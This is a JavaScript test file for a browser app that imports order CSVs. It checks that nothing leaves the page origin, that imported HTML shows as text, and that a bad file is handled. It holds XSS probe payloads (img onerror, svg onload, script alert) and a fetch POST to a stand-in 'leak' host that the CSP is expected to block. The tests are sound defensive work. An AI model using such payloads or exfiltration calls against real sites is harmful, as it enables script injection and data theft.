// Privacy (nothing leaves the machine), HTML injection through imported data, bad files.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {
  startEnv, newPage, crashes, importSample, importFiles, navigate, notBuilt, readKpis, sameOrigin,
  tmpDir, uciCsv, ROUTES, IMPORT_TIMEOUT, TEST_TIMEOUT,
} from './helpers.mjs';

let env;
let dir;
before(async () => {
  env = await startEnv();
  dir = tmpDir();
});
after(async () => {
  await env?.close();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

/** Parse a CSP string into { directive: [sources] }. */
function parseCsp(csp) {
  const out = {};
  for (const part of csp.split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) out[name.toLowerCase()] = sources;
  }
  return out;
}

test('(e) privacy: every request stays on the page origin, none carries data; a CSP forbids others', { timeout: TEST_TIMEOUT }, async () => {
  const store = path.join(dir, 'privacy.csv');
  const rows = [];
  for (let i = 0; i < 40; i++) {
    rows.push([`59${1000 + i}`, `P${i % 7}`, `SECRET PRODUCT ${i % 7}`, 1 + (i % 5), `2011-0${1 + (i % 9)}-0${1 + (i % 9)} 12:00:00`, '3.10', `${14000 + (i % 11)}.0`, 'Germany']);
  }
  fs.writeFileSync(store, uciCsv(rows));
  const { page, log, url, context, origin } = await newPage(env);
  try {
    await importSample(page, url);
    await importFiles(page, url, store);
    for (const route of ROUTES) await navigate(page, route);
    await page.waitForTimeout(1000);

    assert.ok(log.requests.length > 0, 'requests were recorded');
    const foreign = log.requests.filter((r) => !sameOrigin(r.url, origin));
    assert.deepEqual(foreign.map((r) => r.url), [], 'requests to other origins');
    const withBody = log.requests.filter((r) => r.method !== 'GET' || r.postData);
    assert.deepEqual(withBody.map((r) => `${r.method} ${r.url}`), [], 'requests that send data');
    const serverSide = env.server.requests.filter((r) => r.method !== 'GET' && r.method !== 'HEAD');
    assert.deepEqual(serverSide, [], 'non-GET requests received by the server');
    assert.ok(!env.server.requests.some((r) => /SECRET/i.test(decodeURIComponent(r.url))), 'store data in a URL');

    // The page declares a Content-Security-Policy that keeps connections on its own origin.
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy" i]')?.content || null);
    assert.ok(csp, 'index.html has a <meta http-equiv="Content-Security-Policy">');
    const p = parseCsp(csp);
    const connect = p['connect-src'] || p['default-src'];
    assert.ok(connect, `CSP limits connections (connect-src or default-src): ${csp}`);
    for (const src of connect) {
      assert.ok(["'self'", "'none'", 'blob:', 'data:'].includes(src), `connect-src allows ${src}: ${csp}`);
    }
    // And the browser enforces it: even a script on the page cannot reach another host.
    const blocked = await page.evaluate(async () => {
      let violation = null;
      document.addEventListener('securitypolicyviolation', (e) => (violation = e.effectiveDirective), { once: true });
      try {
        await fetch('http://127.0.0.2:9/leak', { method: 'POST', body: 'x', mode: 'no-cors' });
      } catch {
        // blocked
      }
      await new Promise((r) => setTimeout(r, 200));
      return violation;
    });
    assert.equal(blocked, 'connect-src', 'a fetch to another origin is refused by the CSP');
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
  }
});

const XSS_NAME = '<img src=x onerror=alert(1)>';
const XSS_COLUMN = '<svg onload=alert(2)>';

test('(f) HTML in imported data is shown as text, never run', { timeout: TEST_TIMEOUT }, async () => {
  const store = path.join(dir, 'xss.csv');
  const rows = [];
  for (let i = 0; i < 12; i++) {
    const desc = i % 2 === 0 ? XSS_NAME : `"><script>alert(3)</script>`;
    rows.push([`57${1000 + i}`, i % 2 === 0 ? 'X1' : 'X2', desc, 2, `2011-0${1 + (i % 6)}-15 11:00:00`, '4.00', `${15000 + (i % 4)}.0`, 'United Kingdom', 'x']);
  }
  fs.writeFileSync(store, uciCsv(rows, [XSS_COLUMN]));
  const { page, log, url, context } = await newPage(env);
  try {
    await importFiles(page, url, store);
    const visited = [];
    for (const route of ROUTES) {
      await navigate(page, route);
      await page.waitForTimeout(300);
      visited.push(route);
      assert.equal(await page.locator('img[src="x"]').count(), 0, `${route}: an <img src=x> was injected`);
      assert.equal(await page.locator('svg[onload]').count(), 0, `${route}: an <svg onload> was injected`);
      assert.equal(await page.locator('body script:not([src])').evaluateAll((els) => els.filter((e) => e.textContent.includes('alert')).length), 0,
        `${route}: a <script> from the data was injected`);
      if (route === '/data') {
        // The mapping table names the source columns: the HTML-looking header shows literally.
        const mapping = await page.locator('[data-testid="mapping-table"]').innerText();
        assert.ok(mapping.includes(XSS_COLUMN), `/data mapping table shows the column name literally: ${mapping.slice(0, 300)}`);
      }
      if (route === '/products' && !(await notBuilt(page))) {
        await page.locator('[data-testid="basket"]').waitFor({ timeout: 120_000 });
        const body = await page.locator('body').innerText();
        assert.ok(body.includes(XSS_NAME), '/products shows the product name literally');
      }
    }
    assert.deepEqual(log.dialogs, [], 'a dialog opened: script from the data ran');
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
  }
});

test('(g) a binary file named .csv shows an error and the app stays usable', { timeout: TEST_TIMEOUT }, async () => {
  const junk = path.join(dir, 'orders.csv');
  const bytes = Buffer.alloc(8192);
  let x = 12345;
  for (let i = 0; i < bytes.length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    bytes[i] = (x >> 16) & 0xff;
  }
  bytes.set([0, 0, 0xff, 0xfe, 0, 1], 0);
  fs.writeFileSync(junk, bytes);
  const { page, log, url, context } = await newPage(env);
  try {
    await page.goto(url('/'));
    await page.locator('input[type=file][data-testid="file-input"]').setInputFiles(junk);
    const error = page.locator('[data-testid="error"]');
    await error.waitFor({ state: 'visible', timeout: IMPORT_TIMEOUT });
    assert.ok((await error.innerText()).trim().length > 0, 'the error says something');
    assert.deepEqual(crashes(log), [], 'no panic on a bad file');
    // Still usable, without a reload: the sample imports afterwards.
    await page.locator('[data-testid="try-sample"]').click();
    const kpis = await readKpis(page);
    assert.ok(kpis.orders > 0);
    assert.deepEqual(crashes(log), []);
  } finally {
    await context.close();
  }
});
